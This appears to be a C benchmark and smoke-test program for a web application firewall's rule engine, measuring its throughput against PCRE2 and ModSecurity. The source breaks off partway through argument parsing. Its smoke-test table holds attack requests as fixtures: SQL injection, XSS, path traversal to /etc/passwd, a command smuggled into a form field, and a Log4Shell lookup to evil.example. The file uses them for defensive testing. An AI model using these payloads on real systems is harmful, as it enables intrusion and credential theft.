// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * bench/rules: requests/s and MB/s of one core of enforcer's rule engine
 * (enf_rules_match(), one scratch) on a corpus of HTTP/1.1 requests
 * (corpus.h: benign traffic and attacks, parsed by enforcer's HTTP/1
 * parser outside the timed region), with two rule sets: the bundled
 * default set and "re300", some 400 CRS-like @rx rules generated in code
 * (re300.h). Against, on the same requests and rules:
 *
 *   pcre2   the rules one by one with PCRE2 and its JIT, each rule's
 *           transformations applied per value (onebyone.h): what
 *           ModSecurity does;
 *   modsec  libmodsecurity3, a transaction per request (modsec.h), when
 *           it was found at build time.
 *
 * Before timing, one pass of enforcer and of pcre2 over every request
 * must report the same (request, rule) pairs, or the benchmark fails:
 * a baseline that matched less would look slow for nothing.
 *
 * A round times each contender over the whole corpus (enough passes for
 * --sample-ms), one after the other, the order rotating from round to
 * round, by wall time on the CPU run.sh pins it to. Rates are medians of
 * the rounds; ratios are medians of the per-round ratios.
 *
 * --callgrind runs each contender under valgrind's callgrind instead, on
 * the first --cg-requests requests, instrumented around the matching loop
 * only (CALLGRIND_START/STOP_INSTRUMENTATION, --instr-atstart=no), and
 * prints instructions per request: the figure a loaded machine does not
 * move. --smoke checks, on a tiny corpus, that enforcer and pcre2 agree
 * and that known attacks are caught (the ctest smoke test); it times
 * nothing.
 */
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <spawn.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <valgrind/callgrind.h>

#include "bench.h"
#include "corpus.h"
#include "modsec.h"
#include "onebyone.h"
#include "re300.h"
#include "rules/rules.h"

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))
#define MAX_IDS 1024

extern char **environ;

enum contender { C_ENFORCER, C_PCRE2, C_MODSEC, C_COUNT };

static const char *const cname[C_COUNT] = { "enforcer", "pcre2", "modsec" };

enum set_id { S_DEFAULT, S_RE300, S_COUNT };

static const char *const sname[S_COUNT] = { "default", "re300" };

struct opts {
	unsigned long requests;
	unsigned long seed;
	unsigned long attack_pct;
	unsigned long rounds;
	unsigned long sample_ms;
	unsigned long cg_requests;
	bool sets[S_COUNT];
	bool modsec;
	bool memo; /* enforcer keeps its clean-value memo (the default) */
	bool callgrind;
	bool smoke;
	int cg_child; /* enum contender, -1 when not a callgrind child */
	const char *default_set;
	const char *valgrind;
};

/* One rule set, loaded into every contender. */
struct loaded {
	enum set_id id;
	char *text; /* re300's; NULL for a set read from its file */
	struct enf_ruleset *rs;
	struct enf_rules_scratch *s;
	struct obo *obo;
	struct msc_bench *msc;
	size_t msc_rules;
	size_t msc_refused;
	char msc_err[512];
	bool quiet;
};

/* ---- loading -------------------------------------------------------- */

/* A set built from @text (@origin in errors), or from the file @origin
 * when @text is NULL, and a scratch for it. */
static int build_set(const char *text, const char *origin,
		     struct enf_ruleset **rs, struct enf_rules_scratch **s)
{
	struct enf_rules_builder *b = NULL;
	struct enf_rule_error e = { 0 };
	int rc;

	rc = enf_rules_builder_new(&b);
	if (rc)
		return rc;
	if (text)
		rc = enf_rules_builder_add_text(b, text, strlen(text), origin,
						&e);
	else
		rc = enf_rules_builder_add_file(b, origin, &e);
	if (rc >= 0)
		rc = enf_rules_build(b, rs, &e);
	if (rc < 0) {
		fprintf(stderr, "Error: %s:%u:%u: %s\n", e.origin, e.line,
			e.column, e.msg);
		goto out_free_builder;
	}
	rc = enf_rules_scratch_new(*rs, s);
	if (rc) {
		fprintf(stderr, "Error: no scratch: %s\n", strerror(-rc));
		enf_ruleset_free(*rs);
		*rs = NULL;
	}
out_free_builder:
	enf_rules_builder_free(b);
	return rc;
}

/* Collects the ids of the rules enf_rules_match() reports. */
struct idlist {
	uint32_t ids[MAX_IDS];
	size_t n;
};

static int collect(const struct enf_rule_match *m, void *ctx)
{
	struct idlist *l = ctx;

	if (l->n < MAX_IDS)
		l->ids[l->n] = m->rule->id;
	l->n++;
	return 0;
}

/*
 * What REQUEST_URI and REQUEST_FILENAME read in this engine: the target as
 * received or decoded. Asked of the engine itself with one rule each on a
 * request whose target holds "%41" (decoded, "A"), so the baseline reads
 * what the engine reads whichever way the engine goes.
 */
static int probe_decoding(struct obo_opts *o)
{
	static const char rules[] =
		"SecRule REQUEST_URI \"@rx %41\" \"id:1,phase:1,pass\"\n"
		"SecRule REQUEST_FILENAME \"@rx %41\" \"id:2,phase:1,pass\"\n";
	static const char req[] = "GET /p%41th?q=%41 HTTP/1.1\r\n"
				  "Host: probe.example\r\n\r\n";
	struct enf_ruleset *rs = NULL;
	struct enf_rules_scratch *s = NULL;
	struct rcorpus c = { 0 };
	struct idlist l = { .n = 0 };
	int rc;

	rc = build_set(rules, "<probe>", &rs, &s);
	if (rc)
		return rc;
	rc = rcorpus_add_raw(&c, req, sizeof(req) - 1, RK_PAGE);
	if (rc)
		goto out_free;
	rc = enf_rules_match(rs, s, &c.r[0].req, collect, &l);
	if (rc < 0)
		goto out_free;
	o->uri_decoded = true;
	o->filename_decoded = true;
	for (size_t i = 0; i < l.n && i < MAX_IDS; i++) {
		if (l.ids[i] == 1)
			o->uri_decoded = false;
		if (l.ids[i] == 2)
			o->filename_decoded = false;
	}
	rc = 0;
out_free:
	rcorpus_free(&c);
	enf_rules_scratch_free(s);
	enf_ruleset_free(rs);
	return rc;
}

static void print_engines(const struct enf_ruleset *rs)
{
	const char *names[8] = { 0 };
	size_t counts[8] = { 0 }, n = 0;

	for (size_t i = 0; i < enf_ruleset_count(rs); i++) {
		const char *e = enf_ruleset_rule(rs, i)->engine;
		size_t k;

		for (k = 0; k < n && strcmp(names[k], e); k++)
			;
		if (k == n && n < ARRAY_SIZE(names))
			names[n++] = e;
		if (k < n)
			counts[k]++;
	}
	printf("  engines:");
	for (size_t k = 0; k < n; k++)
		printf(" %s %zu%s", names[k], counts[k], k + 1 < n ? "," : "");
	printf("\n");
}

/* A rule ModSecurity refused: said, and left out of its copy of the set. */
static void msc_refused(size_t i, const char *why, void *ctx)
{
	struct loaded *l = ctx;
	const char *col = strstr(why, "Column: "), *nl;
	size_t len;

	/* ModSecurity's "Rules error. File: ... Column: N. " adds nothing */
	if (col && (col = strstr(col, ". ")))
		why = col + 2;
	nl = strchr(why, '\n');
	len = nl ? (size_t)(nl - why) : strlen(why);

	l->msc_refused++;
	if (!l->quiet)
		printf("  modsec refuses rule %u: %.*s%s\n",
		       enf_ruleset_rule(l->rs, i)->id,
		       (int)(len > 140 ? 140 : len), why,
		       len > 140 ? "..." : "");
}

static int load_set(enum set_id id, const struct opts *o,
		    const struct obo_opts *oo, struct loaded *l, bool quiet)
{
	struct re300_info ri;
	char err[512];
	size_t len;
	int rc;

	memset(l, 0, sizeof(*l));
	l->id = id;
	if (id == S_RE300) {
		rc = re300_generate(&l->text, &len, &ri);
		if (rc) {
			fprintf(stderr, "Error: generating re300: %s\n",
				strerror(-rc));
			return rc;
		}
	}
	/* the default set as a file, so what it names relative to itself
	 * (@pmFromFile) is found as the daemon finds it */
	rc = build_set(l->text, id == S_DEFAULT ? o->default_set : "<re300>",
		       &l->rs, &l->s);
	if (rc)
		return rc;
	enf_rules_scratch_memo(l->s, o->memo);
	rc = obo_new(l->rs, oo, &l->obo, err, sizeof(err));
	if (rc) {
		fprintf(stderr, "Error: pcre2 baseline: %s\n", err);
		return rc;
	}
	if (!quiet) {
		printf("set %s: %zu rules", sname[id],
		       enf_ruleset_count(l->rs));
		if (id == S_RE300)
			printf(" (generated in code: %zu phase:1, %zu negated, %zu "
			       "with a backreference or lookaround, %zu "
			       "pipelines)",
			       ri.n_phase1, ri.n_negated, ri.n_pcre_only,
			       ri.n_pipelines);
		else
			printf(" (%s)", o->default_set);
		printf("\n");
		print_engines(l->rs);
		if (obo_no_jit(l->obo))
			printf("  pcre2: %zu patterns without JIT\n",
			       obo_no_jit(l->obo));
	}
	if (o->modsec && msc_bench_available()) {
		size_t n = enf_ruleset_count(l->rs);
		const char **texts = calloc(n ? n : 1, sizeof(*texts));

		if (!texts)
			return -ENOMEM;
		for (size_t i = 0; i < n; i++)
			texts[i] = enf_ruleset_rule(l->rs, i)->text;
		l->quiet = quiet;
		rc = msc_bench_new(texts, n, &l->msc, &l->msc_rules,
				   msc_refused, l, l->msc_err,
				   sizeof(l->msc_err));
		free(texts);
		if (rc) {
			/* reported, and the contender left out of this set */
			l->msc = NULL;
			if (!quiet)
				printf("  modsec: could not load the set: %s\n",
				       l->msc_err);
		} else if (!quiet) {
			printf("  modsec: loaded %zu of %zu rules\n",
			       l->msc_rules, n);
		}
	}
	return 0;
}

static void unload_set(struct loaded *l)
{
	msc_bench_free(l->msc);
	obo_free(l->obo);
	enf_rules_scratch_free(l->s);
	enf_ruleset_free(l->rs);
	free(l->text);
	memset(l, 0, sizeof(*l));
}

/* ---- the check: enforcer and pcre2 report the same pairs -------------- */

static int cmp_u32(const void *a, const void *b)
{
	uint32_t x = *(const uint32_t *)a, y = *(const uint32_t *)b;

	return (x > y) - (x < y);
}

/**
 * struct verdicts - what one pass of each contender found
 * @pairs: matched (request, rule) pairs of enforcer and of pcre2
 * @differ: requests on which the two disagree
 * @hit: requests of each kind with a match (enforcer)
 * @denied: requests of each kind modsec intervened on
 */
struct verdicts {
	uint64_t pairs[2];
	size_t differ;
	size_t hit[RK_KINDS];
	size_t denied[RK_KINDS];
};

static void print_ids(const char *label, const uint32_t *a, size_t na,
		      const uint32_t *b, size_t nb)
{
	printf("      %s:", label);
	for (size_t i = 0; i < na && i < MAX_IDS; i++) {
		bool in_b = bsearch(&a[i], b, nb < MAX_IDS ? nb : MAX_IDS,
				    sizeof(*b), cmp_u32);

		if (!in_b)
			printf(" %u", a[i]);
	}
	printf("\n");
}

static void print_request_line(const struct rq *q)
{
	const struct enf_str *l = &q->req.line;

	printf("    request (%s): %.*s\n", rq_kind_name(q->kind),
	       (int)(l->len > 160 ? 160 : l->len), l->ptr ? l->ptr : "");
}

/* One pass of enforcer and pcre2 over @c, compared; and one of modsec. */
static int check_pass(const struct rcorpus *c, struct loaded *l,
		      struct verdicts *v, bool quiet)
{
	static uint32_t pids[MAX_IDS];
	static struct idlist el;
	size_t shown = 0;

	memset(v, 0, sizeof(*v));
	for (size_t i = 0; i < c->n; i++) {
		const struct rq *q = &c->r[i];
		int ne, np;

		el.n = 0;
		ne = enf_rules_match(l->rs, l->s, &q->req, collect, &el);
		np = obo_match(l->obo, &q->req, pids, MAX_IDS);
		if (ne < 0 || np < 0) {
			fprintf(stderr, "Error: matching request %zu: %s\n", i,
				strerror(-(ne < 0 ? ne : np)));
			return ne < 0 ? ne : np;
		}
		if ((size_t)ne != el.n) {
			fprintf(stderr,
				"Error: enf_rules_match() returned %d and "
				"reported %zu\n",
				ne, el.n);
			return -EPROTO;
		}
		v->pairs[0] += (uint64_t)ne;
		v->pairs[1] += (uint64_t)np;
		v->hit[q->kind] += ne > 0;
		if (ne > MAX_IDS || np > MAX_IDS) {
			fprintf(stderr, "Error: over %d matches a request\n",
				MAX_IDS);
			return -E2BIG;
		}
		qsort(el.ids, el.n, sizeof(el.ids[0]), cmp_u32);
		qsort(pids, (size_t)np, sizeof(pids[0]), cmp_u32);
		if (ne == np && !memcmp(el.ids, pids, el.n * sizeof(pids[0])))
			continue;
		v->differ++;
		if (quiet || shown++ >= 10)
			continue;
		print_request_line(q);
		print_ids("only enforcer", el.ids, el.n, pids, (size_t)np);
		print_ids("only pcre2", pids, (size_t)np, el.ids, el.n);
	}
	if (!l->msc)
		return 0;
	for (size_t i = 0; i < c->n; i++) {
		int rc = msc_bench_run(l->msc, &c->r[i].req);

		if (rc < 0)
			return rc;
		v->denied[c->r[i].kind] += rc;
	}
	return 0;
}

static void print_verdicts(const struct rcorpus *c, const struct loaded *l,
			   const struct verdicts *v)
{
	printf("  matched (request, rule) pairs: enforcer %llu, pcre2 %llu: "
	       "%s\n",
	       (unsigned long long)v->pairs[0], (unsigned long long)v->pairs[1],
	       v->differ ? "DIFFER" : "the same");
	if (v->differ)
		printf("  requests on which they differ: %zu\n", v->differ);
	printf("  %-10s %8s %17s %15s\n", "kind", "requests",
	       "matched (enf/pcre2)", l->msc ? "denied (modsec)" : "");
	for (int k = 0; k < RK_KINDS; k++) {
		if (!c->n_kind[k])
			continue;
		printf("  %-10s %8zu %17zu", rq_kind_name(k), c->n_kind[k],
		       v->hit[k]);
		if (l->msc)
			printf(" %15zu", v->denied[k]);
		printf("\n");
	}
}

/* ---- timing --------------------------------------------------------- */

/* One pass of contender @c over the corpus; @sink keeps the work alive. */
static int one_pass(enum contender who, struct loaded *l,
		    const struct rcorpus *c, uint64_t *sink)
{
	/* every pass meets the corpus as new traffic: values repeat from
	 * request to request, not from pass to pass */
	if (who == C_ENFORCER)
		enf_rules_scratch_memo_clear(l->s);
	for (size_t i = 0; i < c->n; i++) {
		const struct enf_request *req = &c->r[i].req;
		int n;

		switch (who) {
		case C_ENFORCER:
			n = enf_rules_match(l->rs, l->s, req, NULL, NULL);
			break;
		case C_PCRE2:
			n = obo_match(l->obo, req, NULL, 0);
			break;
		default:
			n = msc_bench_run(l->msc, req);
			break;
		}
		if (n < 0)
			return n;
		*sink += (uint64_t)n;
	}
	return 0;
}

static int timed(enum contender who, struct loaded *l, const struct rcorpus *c,
		 unsigned long passes, double *sec, uint64_t *sink)
{
	double t0 = bench_now_ns(CLOCK_MONOTONIC);
	int rc;

	for (unsigned long p = 0; p < passes; p++) {
		rc = one_pass(who, l, c, sink);
		if (rc)
			return rc;
	}
	*sec = (bench_now_ns(CLOCK_MONOTONIC) - t0) / 1e9;
	return 0;
}

static void print_ratio(const char *name, const struct bench_stat *r,
			double target, bool have)
{
	if (!have) {
		printf("  enforcer / %-8s skipped\n", name);
		return;
	}
	printf("  enforcer / %-8s %8.1fx (%.1f..%.1f)   target >= %.0fx: %s\n",
	       name, r->med, r->min, r->max, target,
	       r->med >= target ? "met" : "missed");
}

static int time_set(const struct rcorpus *c, struct loaded *l,
		    const struct opts *o)
{
	static double rps[C_COUNT][BENCH_MAX_SAMPLES];
	double rp[BENCH_MAX_SAMPLES], rm[BENCH_MAX_SAMPLES];
	unsigned long passes[C_COUNT] = { 0 };
	struct bench_stat st[C_COUNT], sp = { 0 }, sm = { 0 };
	bool on[C_COUNT] = { true, true, l->msc != NULL };
	uint64_t sink = 0;
	double sec;
	int rc;

	/* a warm-up on the first requests, which also sizes the samples */
	for (int k = 0; k < C_COUNT; k++) {
		struct rcorpus head = *c;

		if (!on[k])
			continue;
		head.n = c->n < 200 ? c->n : 200;
		rc = timed(k, l, &head, 1, &sec, &sink);
		if (rc)
			return rc;
		sec *= (double)c->n / (double)head.n;
		passes[k] = (unsigned long)(o->sample_ms / 1e3 / sec) + 1;
	}
	for (unsigned long r = 0; r < o->rounds; r++) {
		for (int j = 0; j < C_COUNT; j++) {
			int k = (int)((r + (unsigned long)j) % C_COUNT);

			if (!on[k])
				continue;
			rc = timed(k, l, c, passes[k], &sec, &sink);
			if (rc)
				return rc;
			rps[k][r] = (double)passes[k] * (double)c->n / sec;
		}
	}
	printf("  %-9s %12s %18s %9s %9s %7s\n", "contender", "requests/s",
	       "(min..max)", "MB/s", "us/req", "passes");
	for (int k = 0; k < C_COUNT; k++) {
		if (!on[k]) {
			printf("  %-9s skipped\n", cname[k]);
			continue;
		}
		bench_stat_of(rps[k], o->rounds, &st[k]);
		printf("  %-9s %12.0f %8.0f..%-9.0f %9.2f %9.2f %7lu\n",
		       cname[k], st[k].med, st[k].min, st[k].max,
		       st[k].med * (double)c->wire_bytes / (double)c->n / 1e6,
		       1e6 / st[k].med, passes[k]);
	}
	bench_ratios(rps[C_ENFORCER], rps[C_PCRE2], o->rounds, rp);
	bench_stat_of(rp, o->rounds, &sp);
	if (on[C_MODSEC]) {
		bench_ratios(rps[C_ENFORCER], rps[C_MODSEC], o->rounds, rm);
		bench_stat_of(rm, o->rounds, &sm);
	}
	print_ratio("pcre2", &sp, 20, true);
	print_ratio("modsec", &sm, 100, on[C_MODSEC]);
	printf("bench rules: rps=%.0f mb_per_s=%.1f set=%s ratio_pcre2=%.1f "
	       "ratio_modsec=",
	       st[C_ENFORCER].med,
	       st[C_ENFORCER].med * (double)c->wire_bytes / (double)c->n / 1e6,
	       sname[l->id], sp.med);
	if (on[C_MODSEC])
		printf("%.1f", sm.med);
	else
		printf("skipped");
	printf(" (median of %lu rounds; pcre2 %.1f..%.1f", o->rounds, sp.min,
	       sp.max);
	if (on[C_MODSEC])
		printf(", modsec %.1f..%.1f", sm.min, sm.max);
	printf(")%s\n", o->memo ? "" : " memo=off");
	fflush(stdout);
	return sink == UINT64_MAX; /* never: keeps @sink */
}

/* ---- callgrind ------------------------------------------------------ */

/* Run @argv, wait; its exit code, or -errno when it could not start. */
static int run_wait(char *const argv[], bool quiet)
{
	posix_spawn_file_actions_t fa;
	int rc, st;
	pid_t pid;

	posix_spawn_file_actions_init(&fa);
	if (quiet) {
		posix_spawn_file_actions_addopen(&fa, 1, "/dev/null", O_WRONLY,
						 0);
		posix_spawn_file_actions_addopen(&fa, 2, "/dev/null", O_WRONLY,
						 0);
	}
	rc = posix_spawnp(&pid, argv[0], &fa, NULL, argv, environ);
	posix_spawn_file_actions_destroy(&fa);
	if (rc)
		return -rc;
	if (waitpid(pid, &st, 0) < 0)
		return -errno;
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

/*
 * The instructions of a callgrind output file: its "totals:" line (with
 * --instr-atstart=no its "summary:" line says 0), else "summary:".
 */
static int read_ir(const char *path, double *ir)
{
	FILE *f = fopen(path, "r");
	unsigned long long tot = 0, sum = 0;
	bool have_tot = false, have_sum = false;
	char line[512];

	if (!f)
		return -errno;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "totals: %llu", &tot) == 1)
			have_tot = true;
		else if (sscanf(line, "summary: %llu", &sum) == 1)
			have_sum = true;
	}
	fclose(f);
	if (!have_tot && !have_sum)
		return -ENOENT;
	*ir = (double)(have_tot ? tot : sum);
	return *ir > 0 ? 0 : -ENODATA;
}

static int callgrind_parent(const struct opts *o)
{
	static const char *vq[] = { NULL, "--version", NULL };
	double ir[S_COUNT][C_COUNT] = { { 0 } };
	bool have[S_COUNT][C_COUNT] = { { false } };
	char dir[] = "/tmp/bench-rules-cg.XXXXXX", self[4096];
	int rc, failed = 0;
	ssize_t sl;

	vq[0] = o->valgrind;
	if (run_wait((char *const *)vq, true) != 0) {
		printf("callgrind: '%s' not found: skipped\n", o->valgrind);
		return BENCH_SKIP;
	}
	sl = readlink("/proc/self/exe", self, sizeof(self) - 1);
	if (sl < 0 || !mkdtemp(dir)) {
		fprintf(stderr, "Error: %s\n", strerror(errno));
		return 1;
	}
	self[sl] = '\0';
	printf("callgrind: the first %lu requests of the corpus (seed %lu), "
	       "one pass each, instrumented around the matching loop only\n",
	       o->cg_requests, o->seed);
	for (int s = 0; s < S_COUNT; s++) {
		if (!o->sets[s])
			continue;
		for (int k = 0; k < C_COUNT; k++) {
			char out[sizeof(dir) + 64], outopt[sizeof(out) + 32];
			char nreq[32], seed[32], pct[32];
			char *argv[] = {
				(char *)o->valgrind,
				"--tool=callgrind",
				"--instr-atstart=no",
				outopt,
				"-q",
				self,
				"--cg-child",
				(char *)cname[k],
				"--set",
				(char *)sname[s],
				"--requests",
				nreq,
				"--seed",
				seed,
				"--attack-pct",
				pct,
				"--default-set",
				(char *)o->default_set,
				o->memo ? NULL : "--no-memo",
				NULL,
			};

			if (k == C_MODSEC &&
			    (!o->modsec || !msc_bench_available()))
				continue;
			snprintf(out, sizeof(out), "%s/%s.%s", dir, sname[s],
				 cname[k]);
			snprintf(outopt, sizeof(outopt),
				 "--callgrind-out-file=%s", out);
			snprintf(nreq, sizeof(nreq), "%lu", o->cg_requests);
			snprintf(seed, sizeof(seed), "%lu", o->seed);
			snprintf(pct, sizeof(pct), "%lu", o->attack_pct);
			fflush(stdout);
			rc = run_wait(argv, false);
			if (rc == 0 && !read_ir(out, &ir[s][k])) {
				have[s][k] = true;
			} else if (rc == BENCH_SKIP) {
				printf("callgrind: %s %s skipped\n", sname[s],
				       cname[k]);
			} else {
				printf("callgrind: %s %s failed (exit %d)\n",
				       sname[s], cname[k], rc);
				failed = 1;
			}
			unlink(out);
		}
		printf("  set %-8s", sname[s]);
		for (int k = 0; k < C_COUNT; k++)
			if (have[s][k])
				printf("  %s %.0f", cname[k],
				       ir[s][k] / (double)o->cg_requests);
		printf("  (instructions per request)\n");
	}
	rmdir(dir);
	for (int s = 0; s < S_COUNT; s++) {
		double e;

		if (!have[s][C_ENFORCER])
			continue;
		e = ir[s][C_ENFORCER];
		printf("bench rules_callgrind: ir_per_req=%.0f set=%s "
		       "ratio_pcre2=",
		       e / (double)o->cg_requests, sname[s]);
		if (have[s][C_PCRE2])
			printf("%.1f", ir[s][C_PCRE2] / e);
		else
			printf("skipped");
		printf(" ratio_modsec=");
		if (have[s][C_MODSEC])
			printf("%.1f", ir[s][C_MODSEC] / e);
		else
			printf("skipped");
		printf(" (callgrind, %lu requests)%s\n", o->cg_requests,
		       o->memo ? "" : " memo=off");
	}
	return failed;
}

/* Under callgrind: one contender, one set, one instrumented pass. */
static int callgrind_child(const struct opts *o, const struct rcorpus *c,
			   const struct obo_opts *oo)
{
	struct opts co = *o;
	struct loaded l;
	uint64_t sink = 0;
	enum set_id s = o->sets[S_DEFAULT] ? S_DEFAULT : S_RE300;
	int rc;

	co.modsec = o->cg_child == C_MODSEC;
	rc = load_set(s, &co, oo, &l, true);
	if (rc)
		goto out_unload;
	if (o->cg_child == C_MODSEC && !l.msc) {
		fprintf(stderr, "modsec: %s\n", l.msc_err);
		rc = BENCH_SKIP;
		goto out_unload;
	}
	/* a warm pass first: lazy set-up is not the matching's cost */
	rc = one_pass(o->cg_child, &l, c, &sink);
	if (rc)
		goto out_unload;
	CALLGRIND_START_INSTRUMENTATION;
	rc = one_pass(o->cg_child, &l, c, &sink);
	CALLGRIND_STOP_INSTRUMENTATION;
out_unload:
	unload_set(&l);
	if (rc < 0) {
		fprintf(stderr, "Error: %s\n", strerror(-rc));
		return 1;
	}
	return rc;
}

/* ---- smoke ---------------------------------------------------------- */

/* Known requests: each attack caught by a rule of the default set (@id),
 * and by some rule of re300; the benign one by no rule of the default.
 * @head is the request line and headers; a @body gets its Content-Type
 * @ctype and its Content-Length. */
static const struct known {
	const char *name;
	enum rq_kind kind;
	uint32_t id; /* the default set's rule that must match, 0: none */
	const char *head;
	const char *ctype;
	const char *body;
} known[] = {
	{ "sqli_union_query", RK_SQLI, 100100,
	  "GET /search?q=1%27%20UNION%20SELECT%20username,password%20FROM"
	  "%20users--%20- HTTP/1.1\r\nHost: shop.example\r\n",
	  NULL, NULL },
	{ "sqli_tautology_json", RK_SQLI, 100101,
	  "POST /api/login HTTP/1.1\r\nHost: shop.example\r\n",
	  "application/json", "{\"user\":\"1' or '1'='1\",\"a\":1}" },
	{ "xss_script_query", RK_XSS, 100200,
	  "GET /p?id=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\n"
	  "Host: shop.example\r\n",
	  NULL, NULL },
	{ "lfi_traversal_query", RK_LFI, 100300,
	  "GET /download?file=../../../../etc/passwd HTTP/1.1\r\n"
	  "Host: shop.example\r\n",
	  NULL, NULL },
	{ "rce_form", RK_RCE, 100400,
	  "POST /ping HTTP/1.1\r\nHost: shop.example\r\n",
	  "application/x-www-form-urlencoded",
	  "host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd" },
	{ "log4shell_ua", RK_LOG4SHELL, 100500,
	  "GET / HTTP/1.1\r\nHost: shop.example\r\n"
	  "User-Agent: ${jndi:ldap://evil.example/a}\r\n",
	  NULL, NULL },
	{ "scanner_ua", RK_SCANNER, 100600,
	  "GET / HTTP/1.1\r\nHost: shop.example\r\n"
	  "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n",
	  NULL, NULL },
	{ "benign_search", RK_PAGE, 0,
	  "GET /search?q=union+jack+flag&page=2 HTTP/1.1\r\n"
	  "Host: shop.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; "
	  "rv:128.0) Gecko/20100101 Firefox/128.0\r\n"
	  "Cookie: sid=0123abcd; theme=dark\r\n",
	  NULL, NULL },
	{ "benign_comment_form", RK_FORM, 0,
	  "POST /reviews HTTP/1.1\r\nHost: shop.example\r\n",
	  "application/x-www-form-urlencoded",
	  "name=Bob+O%27Brien&comment=Select+the+half+size+up%3B+I%27d+buy+"
	  "again+--+5%2F5" },
};

/* @k as raw bytes in @buf (@cap bytes): its length, or -1 when too long. */
static int known_raw(const struct known *k, char *buf, size_t cap)
{
	int n;

	if (k->body)
		n = snprintf(buf, cap,
			     "%sContent-Type: %s\r\nContent-Length: %zu\r\n"
			     "\r\n%s",
			     k->head, k->ctype, strlen(k->body), k->body);
	else
		n = snprintf(buf, cap, "%s\r\n", k->head);
	return n < 0 || (size_t)n >= cap ? -1 : n;
}

static int checks, check_fails;

static void check(bool ok, const char *fmt, ...)
	__attribute__((format(printf, 2, 3)));

static void check(bool ok, const char *fmt, ...)
{
	va_list ap;

	checks++;
	check_fails += !ok;
	printf("%s ", ok ? "ok  " : "FAIL");
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf("\n");
}

static bool has_id(const uint32_t *ids, size_t n, uint32_t id)
{
	for (size_t i = 0; i < n && i < MAX_IDS; i++)
		if (ids[i] == id)
			return true;
	return false;
}

static int smoke(const struct opts *o, struct rcorpus *c,
		 const struct obo_opts *oo)
{
	size_t first = c->n;
	int rc;

	for (size_t i = 0; i < ARRAY_SIZE(known); i++) {
		char raw[1024];
		int n = known_raw(&known[i], raw, sizeof(raw));

		rc = n < 0 ? -E2BIG :
			     rcorpus_add_raw(c, raw, (size_t)n, known[i].kind);
		check(!rc, "known request %s parses as one request",
		      known[i].name);
		if (rc)
			return 1;
	}
	for (int s = 0; s < S_COUNT; s++) {
		struct verdicts v;
		struct loaded l;

		if (!o->sets[s])
			continue;
		rc = load_set(s, o, oo, &l, false);
		check(!rc, "set %s loads into enforcer and the pcre2 baseline",
		      sname[s]);
		if (rc) {
			unload_set(&l);
			continue;
		}
		if (o->modsec && msc_bench_available())
			check(l.msc != NULL, "set %s loads into modsec%s%s",
			      sname[s], l.msc ? "" : ": ",
			      l.msc ? "" : l.msc_err);
		rc = check_pass(c, &l, &v, false);
		check(!rc && !v.differ && v.pairs[0] == v.pairs[1],
		      "set %s: enforcer and pcre2 report the same pairs "
		      "(%llu and %llu, %zu requests differ)",
		      sname[s], (unsigned long long)v.pairs[0],
		      (unsigned long long)v.pairs[1], v.differ);
		check(v.pairs[0] > 0, "set %s: the corpus has matches",
		      sname[s]);
		for (size_t i = 0; i < ARRAY_SIZE(known); i++) {
			static uint32_t pids[MAX_IDS];
			struct idlist el = { .n = 0 };
			const struct rq *q = &c->r[first + i];
			int ne, np;

			ne = enf_rules_match(l.rs, l.s, &q->req, collect, &el);
			np = obo_match(l.obo, &q->req, pids, MAX_IDS);
			if (s == S_DEFAULT && known[i].id)
				check(has_id(el.ids, el.n, known[i].id) &&
					      has_id(pids, (size_t)np,
						     known[i].id),
				      "set default: %s matches rule %u",
				      known[i].name, known[i].id);
			else if (s == S_DEFAULT)
				check(ne == 0 && np == 0,
				      "set default: %s matches no rule (%d, "
				      "%d)",
				      known[i].name, ne, np);
			else if (known[i].id)
				check(ne > 0 && np > 0,
				      "set re300: %s matches (%d, %d rules)",
				      known[i].name, ne, np);
		}
		unload_set(&l);
	}
	printf("smoke: %d checks, %d failed\n", checks, check_fails);
	return check_fails ? 1 : 0;
}

/* ---- main ----------------------------------------------------------- */

static void usage(FILE *f)
{
	fprintf(f,
		"Usage: rules [OPTION...]\n"
		"Requests/s of enforcer's rule engine against PCRE2 one by one "
		"and libmodsecurity3.\n\n"
		"  --requests N      corpus size (default 2000; 150 with --smoke)\n"
		"  --seed N          corpus sequence (default 42)\n"
		"  --attack-pct N    percent of attacks (default 10)\n"
		"  --set NAME        default, re300 or all (default all)\n"
		"  --default-set F   the default set's file (default: the "
		"source tree's)\n"
		"  --rounds N        timed rounds (default 5)\n"
		"  --sample-ms N     least time of one sample (default 300)\n"
		"  --no-modsec       leave libmodsecurity3 out\n"
		"  --no-memo         enforcer without its clean-value memo\n"
		"  --callgrind       instructions per request under callgrind "
		"instead of time\n"
		"  --cg-requests N   requests under callgrind (default 200)\n"
		"  --valgrind PATH   the valgrind to run (default valgrind)\n"
		"  --smoke           check agreement and known attacks; no "
		"timing\n"
		"  --dump-set NAME   print the re300 set's text and exit\n"
		"  --help\n");
}

static int parse_args(int argc, char **argv, struct opts *o, bool *dump)
{
	enum {
		O_REQ = 256,
		O_SEED,
		O_PCT,
		O_SET,
		O_DEFSET,
		O_ROUNDS,
		O_SAMPLE,
		O_NOMSC,
		O_NOMEMO,
		O_CG,
		O_CGREQ,
		O_VG,
		O_SMOKE,
		O_DUMP,
		O_CHILD,
		O_HELP,
	};
	static const struct option lo[] = {
		{ "requests", required_argument, NULL, O_REQ },
		{ "seed", required_argument, NULL, O_SEED },
		{ "attack-pct", required_argument, NULL, O_PCT },
		{ "set", required_argument, NULL, O_SET },
		{ "default-set", required_argument, NULL, O_DEFSET },
		{ "rounds", required_argument, NULL, O_ROUNDS },
		{ "sample-ms", required_argument, NULL, O_SAMPLE },
		{ "no-modsec", no_argument, NULL, O_NOMSC },
		{ "no-memo", no_argument, NULL, O_NOMEMO },
		{ "callgrind", no_argument, NULL, O_CG },
		{ "cg-requests", required_argument, NULL, O_CGREQ },
		{ "valgrind", required_argument, NULL, O_VG },
